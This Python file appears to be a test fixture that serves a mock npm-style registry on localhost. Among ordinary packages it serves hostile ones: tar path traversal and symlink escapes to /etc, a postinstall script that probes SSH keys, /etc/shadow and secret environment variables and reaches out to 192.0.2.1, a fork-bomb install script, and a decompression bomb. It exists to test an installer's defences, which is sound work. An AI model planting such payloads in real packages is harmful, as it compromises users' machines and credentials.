# SPDX-License-Identifier: Apache-2.0
"""A registry of node's packages for tests: documents with times and hashes, and archives, on 127.0.0.1.

	python3 registry.py FILE	writes "PORT" to FILE when it listens, and serves until it is ended

Packages are made here, with the standard library alone. What it is asked is written to FILE.log.
"""
import base64
import gzip
import hashlib
import http.server
import io
import json
import os
import random
import re
import sys
import tarfile
import threading
import time
import urllib.parse

NEVER = threading.Event()
OLD = "2020-01-02T03:04:05.000Z"
PACKAGES = {}  # name: {version: (archive, package.json, {"time", "integrity"})}


def archive(own, files, extra=()):
    """The bytes of a package; `extra`: TarInfos beside what belongs there, with their content."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, text in {"package.json": json.dumps(own), **files}.items():
            info = tarfile.TarInfo("package/" + name)
            info.size, info.mode = len(text.encode()), 0o644
            t.addfile(info, io.BytesIO(text.encode()))
        for info, text in extra:
            info.size = len(text)
            t.addfile(info, io.BytesIO(text.encode()))
    return gzip.compress(out.getvalue(), mtime=0)


def add(name, version, files, extra=(), inside=None, meta=None, **more):
    own = {"name": name, "version": version, "main": "index.js", **more}
    data = archive({**own, **(inside or {})}, files, extra)
    PACKAGES.setdefault(name, {})[version] = (data, own, meta or {})


def link(name, to, kind):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, to
    return info, ""


def plain(name):
    return tarfile.TarInfo(name), "evil"


SCRIPT = """
const fs = require("fs"), net = require("net");
const seen = ["/root/.ssh", "/home/user/.ssh", "/etc/shadow", "/work"].filter((p) => { try { fs.readdirSync(p); return true; } catch { return false; } });
seen.push(...Object.keys(process.env).filter((k) => k.includes("SECRET")));
let written = 0;
for (const p of ["/usr/evil", "../fig/evil.js", "../fig/index.js"])
    try { fs.writeFileSync(p, "module.exports = 'evil'"); written++; } catch {}
const s = net.connect({ host: "192.0.2.1", port: 80, timeout: 2000 });
const done = (network) => { fs.writeFileSync("seen.json", JSON.stringify({ seen, network })); process.exit(0); };
s.on("connect", () => done(true)); s.on("error", () => done(false)); s.on("timeout", () => done(false));
"""
BOMB = "const { spawn } = require('child_process'); for (;;) try { spawn(process.execPath, [__filename]); } catch {}"


def fill():
    for v in ("1.0.0", "1.2.0", "2.0.0"):
        add("plum", v, {"index.js": f"exports.version = '{v}'; exports.fig = require('fig').version;",
                        "lib/part.js": "module.exports = 'part';"}, dependencies={"fig": "^1.0.0"})
    for v in ("1.5.0", "2.0.0"):
        add("fig", v, {"index.js": f"exports.version = '{v}';"})
    add("damson", "1.0.0", {"index.js": "exports.fig = require('fig').version;"}, dependencies={"fig": "^2.0.0"})
    add("@orchard/quince", "1.0.0", {"index.mjs": "export const name = 'quince';", "a.cjs": "module.exports = 'a';",
                                     "very/long/" + "x" * 120 + ".js": "module.exports = 'long';"},
        exports={".": "./index.mjs", "./a": "./a.cjs", "./long": "./very/long/" + "x" * 120 + ".js"})
    add("cutter", "1.0.0", {"index.js": "", "cli.js": "#!/usr/bin/env node\nconsole.log('cut');"},
        bin={"cutter": "cli.js", "sh": "cli.js", "../evil": "cli.js"})
    add("foreign", "1.0.0", {"index.js": ""}, os=["plan9"])
    add("hedge", "1.0.0", {"index.js": "module.exports = 'hedge';"}, optionalDependencies={"foreign": "1"})
    add("sapling", "1.0.0", {"index.js": "exports.version = '1.0.0';"})
    add("sapling", "1.1.0", {"index.js": "exports.version = '1.1.0';"}, meta={"time": "now"})
    add("infant", "0.1.0", {"index.js": ""}, meta={"time": "now"})
    add("boulder", "1.0.0", {"index.js": "exports.bytes = require('fs').statSync(__dirname + '/data').size;",
                             "data": random.Random(1).randbytes(3 << 19).hex()}, dependencies={"plum": "^1.0.0"})
    # Attacks.
    add("climber", "1.0.0", {"index.js": ""}, [plain("package/../../../../home/user/evil")])
    add("rooted", "1.0.0", {"index.js": ""}, [plain("/etc/evil")])
    add("linker", "1.0.0", {"index.js": "const fs = require('fs'); module.exports = [...fs.readdirSync(__dirname).sort(), fs.lstatSync(__dirname + '/out').isDirectory()].join();"},
        [link("package/out", "/etc", tarfile.SYMTYPE), plain("package/out/passwd"),
         link("package/hard", "/etc/passwd", tarfile.LNKTYPE), link("package/pipe", "", tarfile.FIFOTYPE)])
    add("both", "1.0.0", {"index.js": "", "a": "x", "a/b": "x"})
    add("changed", "1.0.0", {"index.js": ""}, meta={"integrity": "sha512-" + base64.b64encode(bytes(64)).decode()})
    add("liar", "1.0.0", {"index.js": ""}, inside={"name": "fig"})
    add("noisy", "1.0.0", {"index.js": ""}, dependencies={"nosuchthing": "1"})
    for name in ("cut", "endless", "slow"):
        add(name, "1.0.0", {"index.js": ""})
    add("secretive", "1.0.0", {"index.js": "module.exports = require('fs').existsSync(__dirname + '/seen.json') ? "
                               "require('./seen.json') : 'not run';", "setup.js": SCRIPT},
        scripts={"postinstall": "node setup.js"}, dependencies={"fig": "1"})
    add("bomber", "1.0.0", {"index.js": "", "setup.js": BOMB}, scripts={"install": "node setup.js"})
    swollen = gzip.compress(bytes(1 << 20), mtime=0) * 1100  # one member after the other is one text
    PACKAGES["swollen"] = {"1.0.0": (swollen, {"name": "swollen", "version": "1.0.0"}, {})}


class Registry(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *words):
        with open(sys.argv[1] + ".log", "a", encoding="utf-8") as f:
            f.write(f"{self.command} {self.path}\n")

    def answer(self, code, kind, body, **heads):
        self.send_response(code)
        for k, v in {"Content-Type": kind, "Content-Length": str(len(body)), **heads}.items():
            self.send_header(k, v)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    do_HEAD = lambda self: self.do_GET()

    def do_GET(self):
        path = urllib.parse.unquote(self.path)
        file = re.fullmatch(r"/((?:@[^/]+/)?[^/]+)/-/[^/]*?-(\d[^/]*)\.tgz", path)
        if file and file.group(1) in ODD:
            return ODD[file.group(1)](self)
        if file and file.group(2) in PACKAGES.get(file.group(1), {}):
            return self.answer(200, "application/octet-stream", PACKAGES[file.group(1)][file.group(2)][0])
        if path[1:] in ODD_DOCUMENTS:
            return ODD_DOCUMENTS[path[1:]](self)
        if path[1:] in PACKAGES:
            return self.document(path[1:])
        return self.answer(404, "application/json", b'{"error": "Not found"}')

    def document(self, name):
        now = time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(time.time() - 60))
        times = {v: now if m.get("time") else OLD for v, (_, _, m) in PACKAGES[name].items()}
        versions = {}
        for v, (data, own, meta) in PACKAGES[name].items():
            sums = {"integrity": meta.get("integrity") or "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode(),
                    "shasum": hashlib.sha1(data).hexdigest(),
                    "tarball": f"http://{self.headers['Host']}/{name}/-/{name.split('/')[-1]}-{v}.tgz"}
            versions[v] = {**own, "dist": sums}
            if own.get("scripts"):
                versions[v]["hasInstallScript"] = True
        doc = {"name": name, "dist-tags": {"latest": list(versions)[-1]}, "versions": versions}
        if "install-v1" in self.headers.get("Accept", ""):
            doc["modified"] = max(times.values())
        else:
            doc["time"] = {"created": OLD, "modified": max(times.values()), **times}
        return self.answer(200, "application/json", json.dumps(doc).encode())

    def endless(self):
        self.send_response(200)
        self.send_header("Connection", "close")
        self.end_headers()
        self.close_connection = True
        try:
            while True:
                self.wfile.write(bytes(1 << 20))
        except OSError:
            pass

    def cut(self):
        self.send_response(200)
        self.send_header("Content-Length", "100000")
        self.end_headers()
        self.wfile.write(b"\x1f\x8b")
        self.close_connection = True

    def slow(self):
        self.send_response(200)
        self.send_header("Content-Length", "100000")
        self.end_headers()
        try:
            while True:
                self.wfile.write(b"x")
                NEVER.wait(1)
        except OSError:
            pass

    def away(self):
        self.answer(302, "text/plain", b"", Location="http://192.0.2.1/away")


ODD = {"endless": Registry.endless, "cut": Registry.cut, "slow": Registry.slow}
ODD_DOCUMENTS = {"away": Registry.away, "huge": Registry.endless, "short": Registry.cut}


def main():
    fill()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Registry)
    server.daemon_threads = True
    with open(sys.argv[1] + ".new", "w", encoding="utf-8") as f:
        f.write(str(server.server_address[1]))
    os.rename(sys.argv[1] + ".new", sys.argv[1])
    server.serve_forever()


if __name__ == "__main__":
    main()
